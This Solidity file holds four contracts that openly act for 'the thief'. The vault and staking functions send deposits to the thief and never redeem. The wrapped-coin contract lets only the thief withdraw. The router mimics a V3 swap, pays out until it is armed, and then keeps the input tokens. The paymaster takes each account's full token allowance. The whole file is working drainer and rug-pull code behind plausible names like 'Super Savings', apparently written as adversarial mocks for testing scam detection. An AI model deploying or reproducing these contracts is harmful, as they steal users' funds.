// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import "./Anything.sol";

/// A vault of the thief: it takes, and gives shares that never come back to anything.
contract FakeVault {
    Token private immutable _token;
    address private immutable _thief;
    string public name = "Super Savings";
    string public symbol = "sSUP";
    uint8 public constant decimals = 6;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Deposit(address indexed sender, address indexed owner, uint256 assets, uint256 shares);

    constructor(Token token, address thief) {
        _token = token;
        _thief = thief;
    }


    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        emit Transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }

    function asset() external view returns (address) {
        return address(_token);
    }

    function totalAssets() external view returns (uint256) {
        return totalSupply;
    }

    function convertToShares(uint256 it) external pure returns (uint256) {
        return it;
    }

    function convertToAssets(uint256 it) external pure returns (uint256) {
        return it;
    }

    function deposit(uint256 assets, address receiver) external returns (uint256) {
        _token.transferFrom(msg.sender, _thief, assets);
        _mint(receiver, assets);
        emit Deposit(msg.sender, receiver, assets, assets);
        return assets;
    }

    function redeem(uint256, address, address) external pure returns (uint256) {
        revert("later");
    }

    function stake(uint256 assets) external {
        _token.transferFrom(msg.sender, _thief, assets);
        _mint(msg.sender, assets);
    }

    /// Takes the shares and pays nothing: the queue is long.
    function requestRedeem(uint256 shares) external {
        balanceOf[msg.sender] -= shares;
        totalSupply -= shares;
        emit Transfer(msg.sender, address(0), shares);
    }

    function _mint(address to, uint256 value) private {
        balanceOf[to] += value;
        totalSupply += value;
        emit Transfer(address(0), to, value);
    }
}

/// Wrapped coins of the thief: they can be unwrapped by him alone.
contract FakeWrapped {
    string public name = "Wrapped Coin";
    string public symbol = "WCOIN";
    uint8 public constant decimals = 18;
    address payable private immutable _thief;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Deposit(address indexed dst, uint256 wad);
    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(address payable thief) {
        _thief = thief;
    }


    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        emit Transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }

    function totalSupply() external view returns (uint256) {
        return address(this).balance;
    }

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
        emit Deposit(msg.sender, msg.value);
    }

    function withdraw(uint256 value) external {
        require(msg.sender == _thief);
        _thief.transfer(value);
    }
}

/// A router of the thief that has whatever V3 names: kind while it is not armed.
contract FakeRouter {
    struct ExactInputSingleParams { address tokenIn; address tokenOut; uint24 fee; address recipient; uint256 amountIn; uint256 amountOutMinimum; uint160 sqrtPriceLimitX96; }
    address private immutable _thief;
    bool public armed;

    constructor(address thief) {
        _thief = thief;
    }

    function arm() external {
        require(msg.sender == _thief);
        armed = true;
    }

    function exactInputSingle(ExactInputSingleParams calldata it) external payable returns (uint256) {
        Token(it.tokenIn).transferFrom(msg.sender, _thief, it.amountIn);
        if (!armed) Token(it.tokenOut).transfer(it.recipient, it.amountOutMinimum + 1e12);
        return it.amountOutMinimum;
    }
}

/// Pays for the fees of operations, with tokens of the account that it may take.
contract Paymaster {
    Token private immutable _token;
    address private immutable _thief;

    constructor(Token token, address thief) {
        _token = token;
        _thief = thief;
    }

    struct Op { address sender; uint256 nonce; bytes initCode; bytes callData; bytes32 accountGasLimits; uint256 preVerificationGas; bytes32 gasFees; bytes paymasterAndData; bytes signature; }

    function validatePaymasterUserOp(Op calldata op, bytes32, uint256) external returns (bytes memory, uint256) {
        _token.transferFrom(op.sender, _thief, _token.allowance(op.sender, address(this)));
        return ("", 0);
    }

    function postOp(uint8, bytes calldata, uint256, uint256) external {}
}
